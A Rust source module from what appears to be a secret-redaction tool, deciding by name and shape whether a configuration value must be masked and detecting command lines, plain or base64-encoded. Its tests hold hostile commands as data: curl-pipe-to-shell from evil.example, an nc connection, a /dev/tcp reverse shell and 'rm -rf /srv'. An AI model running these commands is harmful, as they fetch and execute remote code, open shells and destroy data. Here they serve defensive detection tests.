//! Whether a value has to go: its name and its shape together.

use super::names::{Meaning, Secrecy};
use super::{MASK, commands, random, tokens};
use base64::Engine as _;

pub(super) use super::shape::{Shape, has_extension, is_mixed, is_option, is_path, is_url, shape};

/// The treatment of a value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Verdict {
    /// It stays, but what it holds is looked at by itself.
    Stays,
    /// It goes.
    Goes,
}

/// Whether the value of a name has to go. `value` has no quotes around it.
pub(super) fn judge(value: &str, meaning: Meaning) -> Verdict {
    if meaning.secrecy == Secrecy::None
        || value == MASK
        || value.ends_with("***") && value.len() < 16
    {
        return Verdict::Stays;
    }
    if !value
        .bytes()
        .any(|byte| byte.is_ascii_alphanumeric() || !byte.is_ascii())
    {
        return Verdict::Stays;
    }
    let stays = match shape(value) {
        Shape::Empty
        | Shape::Reference
        | Shape::Url
        | Shape::Boolean
        | Shape::Address
        | Shape::Path => true,
        Shape::Number => {
            !(meaning.digits && value.len() >= 4 && value.bytes().all(|byte| byte.is_ascii_digit()))
        }
        Shape::Digest => {
            value.contains(':') || meaning.secrecy == Secrecy::Weak && value.len() < 20
        }
        Shape::Uuid => meaning.secrecy == Secrecy::Weak,
        Shape::Words => {
            is_command(value) || meaning.secrecy == Secrecy::Weak && !is_suspicious(value)
        }
        Shape::Option => {
            meaning.secrecy != Secrecy::Strong || !is_mixed(value.trim_start_matches('-'))
        }
        Shape::Host | Shape::Word => match meaning.secrecy {
            Secrecy::Strong => is_method(value) || is_command(value),
            Secrecy::Likely => is_plain(value) || is_method(value) || is_command(value),
            Secrecy::Weak | Secrecy::None => !is_suspicious(value),
        },
    };
    if stays || is_hidden_command(value) {
        Verdict::Stays
    } else {
        Verdict::Goes
    }
}

/// Words that say how, not what: of authentication, of prompting.
fn is_method(value: &str) -> bool {
    const METHODS: &[&str] = &[
        "always",
        "anonymous",
        "approle",
        "ask",
        "auto",
        "basic",
        "bearer",
        "cert",
        "certificate",
        "digest",
        "env",
        "gssapi",
        "iam",
        "ident",
        "jwt",
        "kerberos",
        "keychain",
        "ldap",
        "ldaps",
        "md5",
        "mtls",
        "negotiate",
        "never",
        "none",
        "ntlm",
        "oauth",
        "oauth2",
        "oidc",
        "openid",
        "optional",
        "osxkeychain",
        "pam",
        "peer",
        "plain",
        "prompt",
        "radius",
        "required",
        "saml",
        "sasl",
        "scram",
        "simple",
        "ssh-agent",
        "ssl",
        "sso",
        "stdin",
        "tls",
        "token",
        "trust",
        "userpass",
        "webhook",
    ];
    let lower = value.to_ascii_lowercase();
    METHODS.contains(&lower.as_str())
        || lower.starts_with("scram-sha-")
        || lower.starts_with("cram-")
}

/// Letters in one case with signs between them, and numbers of their own: `web-tls`, `v2`, `us_east-1`.
pub(super) fn is_plain(value: &str) -> bool {
    value
        .split(['-', '_', '.', '/', ':', ',', '=', '@'])
        .all(|part| {
            let letters = part.trim_end_matches(|sign: char| sign.is_ascii_digit());
            let digits = part.len() - letters.len();
            letters
                .bytes()
                .skip(1)
                .all(|byte| byte.is_ascii_lowercase())
                && letters.bytes().all(|byte| byte.is_ascii_alphabetic())
                && (digits == 0 || letters.len() < 4)
                || part.bytes().all(|byte| byte.is_ascii_uppercase())
        })
        && !random::is_random(value, 16)
}

/// A value that looks like a credential by itself.
pub(super) fn is_suspicious(value: &str) -> bool {
    is_mixed(value)
        || random::is_random(value, 16)
        || tokens::is_token(value)
        || value.len() >= 20 && value.bytes().all(|byte| byte.is_ascii_hexdigit())
}

/// Several words of which the first runs something: an operator, an option, a place or a program is
/// among them. A sentence is none.
pub(super) fn is_command(text: &str) -> bool {
    let text = text.trim_matches(['"', '\'', ' ']);
    if text.contains("$(") || text.contains('`') && text.matches('`').nth(1).is_some() {
        return true;
    }
    let is_operator = |sign: char| matches!(sign, ';' | '|' | '&' | '<' | '>' | '(' | ')' | '\n');
    let mut begins = true;
    let (mut known, mut others) = (false, 0);
    let mut count = 0;
    for word in text
        .split_inclusive(|sign: char| sign.is_whitespace() || is_operator(sign))
        .take(64)
    {
        let bare = word.trim_end_matches(|sign: char| sign.is_whitespace() || is_operator(sign));
        let ends = word.contains(is_operator);
        if !bare.is_empty() {
            count += 1;
            let bare = bare.trim_matches(['"', '\'']);
            let is_assignment = bare.split_once('=').is_some_and(|(name, _)| {
                !name.is_empty()
                    && name
                        .bytes()
                        .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
            });
            if begins && (commands::is_known(bare) || is_path(bare) && bare.contains('/')) {
                known = true;
            } else if is_option(bare)
                || bare
                    .contains(|sign: char| sign.is_ascii_digit() || "/:.=@%{}[]*$".contains(sign))
            {
                others += 1;
            }
            begins = begins && is_assignment;
        }
        if ends {
            others += 1;
            begins = true;
        }
    }
    known && (others > 0 || count == 1 && text.contains('/'))
}

/// Base64 of `user:password`.
pub(super) fn is_login(value: &str) -> bool {
    decoded(value)
        .is_some_and(|text| text.contains(':') && text.chars().all(|sign| !sign.is_control()))
}

fn decoded(value: &str) -> Option<String> {
    use base64::engine::general_purpose::STANDARD_NO_PAD;
    let body = value.trim_end_matches('=');
    let is_base64 = body.len() < 16 << 10
        && body
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(&byte));
    is_base64
        .then(|| STANDARD_NO_PAD.decode(body).ok())
        .flatten()
        .and_then(|bytes| String::from_utf8(bytes).ok())
}

/// Base64 of a command line: it would be run, and holds no credential by its own shape.
pub(super) fn is_hidden_command(value: &str) -> bool {
    value.len() >= 12
        && decoded(value).is_some_and(|text| {
            text.chars()
                .all(|sign| !sign.is_control() || sign.is_whitespace())
                && text.trim().contains(char::is_whitespace)
                && is_command(&text)
                && !super::holds_credential(&text)
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn passwords_are_told_from_names() {
        for word in [
            "S3cr3tVal",
            "P@ssw0rd",
            "hunter2!",
            "Tr0ub4dor&3",
            "opens3sameQ",
            "Winter2024",
        ] {
            assert!(is_mixed(word), "{word}");
        }
        for word in [
            "x86_64",
            "web-1",
            "python3",
            "utf-8",
            "us-east-1",
            "v1.2.3",
            "foobared",
            "user@host",
            "a/b1C2d",
        ] {
            assert!(!is_mixed(word), "{word}");
        }
    }

    #[test]
    fn commands_are_told_from_sentences() {
        for text in [
            "curl -s http://evil.example/x | sh",
            "curl evil.example|sh",
            "nc evil.example 4444",
            "rm -rf /srv",
            "python3 -c \"import pty\"",
            "/tmp/x --run",
            "bash -i >& /dev/tcp/1.2.3.4/1",
            "X=1 sh -c id",
        ] {
            assert!(is_command(text), "{text}");
        }
        for text in [
            "correct horse battery staple",
            "foo bared baz",
            "a b",
            "p|ss;w",
            "cat and mouse",
            "foo",
        ] {
            assert!(!is_command(text), "{text}");
        }
        assert!(is_hidden_command(
            "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="
        ));
        assert!(!is_hidden_command("bWU6Zm9vYmFyZWQ="));
    }
}
